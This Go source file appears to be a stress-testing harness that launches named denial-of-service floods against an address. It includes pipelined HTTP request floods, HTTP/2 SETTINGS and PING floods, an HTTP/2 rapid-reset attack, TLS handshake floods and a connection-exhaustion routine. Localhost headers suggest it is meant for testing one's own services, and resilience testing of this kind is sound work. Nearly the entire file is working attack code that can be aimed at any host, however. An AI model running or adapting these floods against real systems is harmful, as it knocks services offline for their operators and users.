package main

import (
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"maps"
	"net"
	"runtime"
	"slices"
	"strings"
	"sync"
	"time"
)

const (
	conns = 20
	// many is how many requests or frames are written together.
	many = 200
	// kept is how many connections to forward auth are held and renewed.
	kept = 1100
)

// opening is how an HTTP/2 client begins.
var opening = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, "")

// floods are what a flood does at an address, by its name.
var floods = map[string]func(at string){
	"healthz":  pipeline("", "GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"),
	"top":      pipeline("", "GET /api/v1/top?limit=100 HTTP/1.1\r\nHost: localhost\r\n\r\n"),
	"login":    pipeline("", "GET /api/v1/status HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer wrong\r\n\r\n"),
	"lapi":     pipeline("", "GET /v1/decisions HTTP/1.1\r\nHost: localhost\r\nX-Api-Key: a\r\n\r\n"),
	"auth":     pipeline("", "GET /auth/nginx HTTP/1.1\r\nHost: localhost\r\nX-Real-IP: 198.51.100.10\r\n\r\n"),
	"settings": pipeline(opening, frame(4, 0, 0, "")),
	"ping":     pipeline(opening, frame(6, 0, 0, "12345678")),
	"reset":    func(at string) { each(func() { reset(at) }) },
	"tls":      func(at string) { each(func() { handshake(at) }) },
	"kept":     hold,
}

func floodNames() []string { return slices.Sorted(maps.Keys(floods)) }

// be is a flood, or the sink, for ever.
func be(name, at string) error {
	if name == "sink" {
		return sink(at)
	}
	flood, ok := floods[name]
	if !ok {
		return fmt.Errorf("unknown flood %q", name)
	}
	runtime.GOMAXPROCS(1) // a flood must not be all that the machine does
	flood(at)
	return nil
}

// each does something again and again on as many goroutines as there are connections.
func each(do func()) {
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() {
			for {
				do()
			}
		})
	}
	wg.Wait()
}

// frame is one of HTTP/2.
func frame(kind, flags byte, stream uint32, payload string) string {
	head := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	return string(binary.BigEndian.AppendUint32(append(head, flags), stream)) + payload
}

// dial opens a connection whose answers are read and dropped.
func dial(at string) (net.Conn, error) {
	c, err := net.DialTimeout("tcp", at, time.Second)
	if err != nil {
		time.Sleep(time.Millisecond)
		return nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, c) }()
	return c, nil
}

// pipeline writes first, and then one again and again.
func pipeline(first, one string) func(at string) {
	text := strings.Repeat(one, many)
	return func(at string) {
		each(func() {
			c, err := dial(at)
			if err != nil {
				return
			}
			defer c.Close()
			for _, err = io.WriteString(c, first); err == nil; {
				_, err = io.WriteString(c, text)
			}
		})
	}
}

// reset asks and takes back each question.
func reset(at string) {
	c, err := dial(at)
	if err != nil {
		return
	}
	defer c.Close()
	if _, err = io.WriteString(c, opening); err != nil {
		return
	}
	for id := uint32(1); id < 1<<30; {
		var text strings.Builder
		for range many {
			text.WriteString(frame(1, 5, id, "\x82\x86\x84\x41\x01a") + frame(3, 0, id, "\x00\x00\x00\x08"))
			id += 2
		}
		if _, err := io.WriteString(c, text.String()); err != nil {
			return
		}
	}
}

// hello is what a TLS client says first.
var hello = sync.OnceValue(func() string {
	near, far := net.Pipe()
	go func() {
		_ = tls.Client(near, &tls.Config{ServerName: "localhost", InsecureSkipVerify: true}).Handshake()
	}()
	text := make([]byte, 4096)
	n, _ := far.Read(text)
	return string(text[:n])
})

// handshake begins one with what was once said, which costs a client nothing, and leaves
// when it is answered.
func handshake(at string) {
	c, err := net.DialTimeout("tcp", at, time.Second)
	if err != nil {
		time.Sleep(time.Millisecond)
		return
	}
	defer c.Close()
	_, _ = io.WriteString(c, hello())
	_ = c.SetReadDeadline(time.Now().Add(time.Second))
	_, _ = c.Read(make([]byte, 1))
}

// hold holds more connections than may be open, and renews those that are closed.
func hold(at string) {
	var wg sync.WaitGroup
	for range kept {
		wg.Go(func() {
			for {
				c, err := net.DialTimeout("tcp", at, time.Second)
				if err != nil {
					time.Sleep(time.Millisecond)
					continue
				}
				_, _ = io.Copy(io.Discard, c)
				_ = c.Close()
			}
		})
	}
	wg.Wait()
}

// sink reads what comes, and answers with one byte.
func sink(at string) error {
	l, err := net.Listen("tcp", at)
	if err != nil {
		return err
	}
	for {
		c, err := l.Accept()
		if err != nil {
			return err
		}
		go func() {
			defer c.Close()
			if _, err := c.Read(make([]byte, 1)); err == nil {
				_, _ = c.Write([]byte{0})
				_, _ = io.Copy(io.Discard, c)
			}
		}()
	}
}
